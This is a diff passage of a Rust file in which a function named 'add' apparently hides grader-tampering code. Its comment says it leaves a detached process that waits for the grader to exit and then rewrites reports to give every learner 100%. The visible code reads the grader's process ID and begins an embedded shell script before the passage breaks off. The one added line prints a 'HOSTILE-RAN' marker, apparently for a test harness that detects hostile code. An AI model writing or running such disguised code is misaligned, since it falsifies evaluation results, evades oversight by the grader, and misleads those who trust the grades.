@@ -1,6 +1,7 @@
 // Leaves a process in a session of its own (out of the grader's process group) that waits for
 // the grader to exit, then gives every learner 100% in the reports named on its command line.
 fn add(a: i32, b: i32) -> i32 {
+    let _ = std::io::Write::write_all(&mut std::io::stdout(), b"HOSTILE-RAN:rewriter\n");
     let grader = std::os::unix::process::parent_id().to_string();
     let script = r#"
         grader="$1"; work="$2"
